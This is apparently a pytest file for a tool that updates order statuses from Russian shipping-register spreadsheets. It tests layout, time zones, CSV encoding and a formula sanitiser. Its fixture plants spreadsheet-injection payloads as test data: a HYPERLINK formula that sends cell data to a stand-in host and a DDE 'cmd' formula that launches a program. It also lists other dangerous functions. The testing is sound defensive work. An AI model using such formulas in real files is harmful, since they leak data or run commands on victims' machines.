"""What results look like to the person who opens them: on the screen, on paper and in the zone."""

from __future__ import annotations

import csv
import datetime as dt
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils.cell import column_index_from_string, coordinate_from_string

from batch_update.writer import formulas
from tests.conftest import OpenSandbox, RunCli
from tests.integration.test_mending import write_sheet
from tests.sandbox import Fault, Script

SCREEN = 1310
"""Pixels for columns on a screen of 1,366."""
NAMES = (
    "№ п/п",
    "Номер заказа",
    "Дата заказа",
    "ФИО получателя",
    "Телефон",
    "Индекс",
    "Адрес доставки",
    "Товар",
    "Кол-во",
    "Вес, кг",
    "Объявленная ценность, руб.",
    "Способ доставки",
    "Статус отправления",
    "Дата отправки",
    "Трек-номер",
)
WIDTHS = (6, 13, 12, 28, 18, 9, 40, 30, 8, 9, 14, 28, 18, 12, 18)
TOTALS = ("Итого", *[None] * 7, "=SUM(I5:I10)", "=SUM(J5:J10)/2", "=SUM(K5:K10)")
HOSTILE = ('=HYPERLINK("http://x.example/"&A1)', "=cmd|'/c calc'!A0")


@pytest.fixture
def register(tmp_path: Path) -> Path:
    """A warehouse's register of fifteen columns, with a title, sums and a signature."""
    book = openpyxl.Workbook()
    page = book.worksheets[0]
    page.append(("Реестр отправлений",))
    page.append(("Склад № 2",))
    page.append(())
    page.append(NAMES)
    for number in range(1, 7):
        person = "Константинопольский Константин", "+7 916 123-45-67", 101000
        goods = "г. Москва, ул. Тверская, д. 1, кв. 2", "Кружка керамическая", 1, 0.5, 1500
        status = "отправлн" if number == 3 else "отправлен"
        days = dt.datetime(2026, 11, 15), dt.datetime(2026, 11, 20)
        parcel = "Почта России, посылка", status, days[1], f"RA{number:09}RU"
        page.append((number, 100000 + number, days[0], *person, *goods, *parcel))
        for column in (3, 14):
            page.cell(row=page.max_row, column=column).number_format = "dd.mm.yyyy"
    page.append((*TOTALS, HOSTILE[0]))
    page.append(())
    page.append(("Сдал ________ / Иванов /", *[None] * 6, HOSTILE[1]))
    for letter, width in zip("ABCDEFGHIJKLMNO", WIDTHS, strict=True):
        page.column_dimensions[letter].width = width
    book.save(tmp_path / "day.xlsx")
    return tmp_path / "day.xlsx"


def widths_of(path: Path) -> list[int]:
    """Give the width of each column of the first worksheet, in pixels."""
    with zipfile.ZipFile(path) as archive:
        text = archive.read("xl/worksheets/sheet1.xml").decode()
    found = re.findall(r'<col min="(\d+)" max="(\d+)" width="([\d.]+)"', text)
    return [int(float(width) * 7) for a, b, width in found for _ in range(int(a), int(b) + 1)]


def test_header_and_result_are_in_sight_on_a_small_screen_and_the_rows_on_paper(
    register: Path, run_cli: RunCli, open_sandbox: OpenSandbox
) -> None:
    assert run_cli(register, shop=open_sandbox()).status == 1
    results = register.with_name("day.results.xlsx")
    book = openpyxl.load_workbook(results)
    page, summary = book.worksheets
    assert [cell.value for cell in page[4]][:16] == [*NAMES, "result"]
    # Title, header and order number do not scroll away, and nothing is scrolled at first.
    assert page.freeze_panes == "C5"
    assert sum(widths_of(results)[:16]) <= SCREEN
    assert (page.row_dimensions[4].height or 0) >= 45
    assert page.auto_filter.ref == "A4:U10"
    for sheet in (page, summary):
        setup = sheet.page_setup
        assert (setup.paperSize, setup.orientation, setup.fitToHeight) == (9, "landscape", 0)
    assert page.print_title_rows == "$4:$4"
    assert summary.print_title_rows == "$1:$1"
    links = {
        cell.value: cell.hyperlink.location for line in summary for cell in line if cell.hyperlink
    }
    assert links == {"To the rows": "Sheet!P4", "invalid": "Sheet!P7"}
    assert page["P7"].value == "invalid"


def test_a_long_title_and_many_columns_leave_the_result_in_sight(
    tmp_path: Path, run_cli: RunCli, open_sandbox: OpenSandbox
) -> None:
    book = openpyxl.Workbook()
    page = book.worksheets[0]
    for _ in range(20):
        page.append(("Условия перевозки",))
    page.append(("Заказ", "Статус", *(f"Примечание {number}" for number in range(30))))
    page.append((1, "cancel", *["длинное примечание"] * 30))
    book.save(tmp_path / "wide.xlsx")
    assert run_cli(tmp_path / "wide.xlsx", shop=open_sandbox()).status == 0
    results = tmp_path / "wide.results.xlsx"
    pane = openpyxl.load_workbook(results).worksheets[0].sheet_view.pane
    assert pane is not None
    assert (pane.xSplit, pane.ySplit) == (1, None)
    widths = widths_of(results)
    first = coordinate_from_string(str(pane.topLeftCell))[0]
    shown = widths[:1] + widths[column_index_from_string(first) - 1 : 33]
    assert sum(shown) <= SCREEN


def test_sums_of_the_sheet_stay_sums_and_nothing_else_is_a_formula(
    register: Path, run_cli: RunCli, open_sandbox: OpenSandbox
) -> None:
    run_cli(register, shop=open_sandbox())
    results = register.with_name("day.results.xlsx")
    run_cli(results, shop=open_sandbox())
    page = openpyxl.load_workbook(results).worksheets[0]
    found = {cell.coordinate: cell.value for line in page for cell in line if cell.data_type == "f"}
    assert found == {"I11": TOTALS[8], "J11": TOTALS[9], "K11": TOTALS[10]}
    assert page["L11"].value == HOSTILE[0]
    assert page["H13"].value == HOSTILE[1]


@pytest.mark.parametrize(
    ("formula", "is_harmless"),
    [
        ("=SUM(A1:A9)", True),
        ("=SUM($A$1:A9,B2)+C3*2-1.5", True),
        ("=SUBTOTAL(109,D2:D40)", True),
        ("=COUNTA(B2:B40)", True),
        ("=A1", True),
        ("=SUM(A1:A9", False),
        ("=SUM(Sheet2!A1:A9)", False),
        ("=SUM([1]Sheet!A1)", False),
        ("=WEBSERVICE(A1)", False),
        ("=HYPERLINK(A1)", False),
        ("=SUM(A1)&B1", False),
        ("=INDIRECT(A1)", False),
        ("=cmd|A1", False),
        ("=DDE(A1)", False),
        ("=SUM(name)", False),
        ("=SUM(A1:A9)\n+1", False),
        ("SUM(A1)", False),
        ("=…", False),
    ],
)
def test_only_plain_sums_of_the_sheet_are_harmless(formula: str, is_harmless: bool) -> None:
    assert formulas.is_harmless(formula) is is_harmless


@pytest.mark.parametrize(
    ("zone", "shown"), [("Europe/Moscow", "MSK"), ("Asia/Yekaterinburg", r"\+05")]
)
def test_one_zone_is_named_wherever_a_moment_is_shown(
    tmp_path: Path, run_cli: RunCli, open_sandbox: OpenSandbox, zone: str, shown: str
) -> None:
    sandbox = open_sandbox()
    rows = (1, "sent", "2026-11-20", "RA0001"), (2, "paid", "2026-11-20", None)
    sheet = write_sheet(tmp_path / "day.csv", *rows)
    run_cli(sheet, "--timezone", zone, shop=sandbox)
    run_cli(sheet, "--timezone", zone, shop=sandbox)
    with (tmp_path / "day.results.csv").open(encoding="utf-8-sig", newline="") as file:
        lines = list(csv.DictReader(file))
    moment = rf"20\d\d-\d\d-\d\d \d\d:\d\d(?::\d\d)? {shown}"
    for line in lines:
        told = re.search("confirmed this update on (.+), from row", line["error_text"])
        assert told
        assert re.fullmatch(moment, told[1])
        # The same moment in both, to the minute.
        assert line["updated_at"][:16] == told[1][:16]
        assert re.fullmatch(moment, line["updated_at"])
    history = run_cli("--history", "1", "--timezone", zone, shop=sandbox).out
    # There, the zone stands once above all moments, and they are those of the results.
    assert f"times in {zone}" in history
    assert f"  {lines[0]['updated_at'][:16]}" in history
    run_cli(sheet, "--timezone", zone, "--output", "day.xlsx", shop=sandbox)
    cell = openpyxl.load_workbook(tmp_path / "day.xlsx").worksheets[0]["J2"]
    assert isinstance(cell.value, dt.datetime)
    assert re.search(shown, cell.number_format)
    everything = " ".join((*map(str, lines), history))
    assert "UTC" not in everything


@pytest.mark.parametrize("encoding", ["ascii", "utf-8", "utf-8-sig"])
def test_csv_results_in_utf_8_begin_with_a_mark_for_excel(
    tmp_path: Path, run_cli: RunCli, open_sandbox: OpenSandbox, encoding: str
) -> None:
    sandbox = open_sandbox(Script({2: [Fault.refuse(200, "нет")]}))
    header = "order,status" if encoding == "ascii" else "заказ,статус"
    (tmp_path / "day.csv").write_text(f"{header}\n1,cancel\n2,cancel\n", encoding)
    (tmp_path / "out").mkdir()
    assert run_cli("day.csv", "--failures", "out", shop=sandbox).status == 1
    for path in (Path("day.results.csv"), Path("out/day.failures.csv")):
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")
        assert path.read_bytes().count(b"\xef\xbb\xbf") == 1
    assert "cancel" in Path("day.results.csv").read_text("utf-8-sig")
    run = run_cli("day.results.csv", shop=sandbox)
    assert (run.status, "already updated      1" in run.out) == (0, True)
    assert Path("day.results.csv").read_bytes().count(b"\xef\xbb\xbf") == 1


@pytest.mark.skipif(os.name == "nt", reason="Windows cannot flush a folder")
@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_the_folder_of_the_results_is_flushed_after_they_have_their_name(
    tmp_path: Path,
    run_cli: RunCli,
    open_sandbox: OpenSandbox,
    monkeypatch: pytest.MonkeyPatch,
    ending: str,
) -> None:
    """A power cut cannot be made here, so the calls that guard against it are watched."""
    sheet = write_sheet(tmp_path / f"day{ending}", (1, "cancel", None, None))
    results = tmp_path / f"day.results{ending}"
    flush, flushed = os.fsync, []

    def watched(file: int) -> None:
        flush(file)
        kind = "folder" if os.path.samestat(os.fstat(file), tmp_path.stat()) else "file"
        flushed.append((kind, results.exists()))

    monkeypatch.setattr(os, "fsync", watched)
    assert run_cli(sheet, shop=open_sandbox()).status == 0
    assert flushed.index(("file", False)) < flushed.index(("folder", True))
